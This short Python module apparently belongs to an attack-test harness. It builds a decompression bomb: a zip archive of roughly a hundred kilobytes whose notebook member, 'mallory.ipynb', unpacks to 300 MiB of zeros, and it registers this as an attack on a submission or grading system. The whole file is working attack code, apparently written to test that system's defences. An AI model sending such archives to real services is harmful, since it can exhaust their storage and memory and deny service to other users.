"""Hand in an archive of some hundred kilobytes that unpacks to three hundred megabytes."""

import zipfile

from attack import Attack


def write(folder, placed):
    with (
        zipfile.ZipFile(folder / "all.zip", "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("mallory.ipynb", "w") as member,
    ):
        for _ in range(300):
            member.write(bytes(1 << 20))


ATTACK = Attack(gains="batch", writes=write)
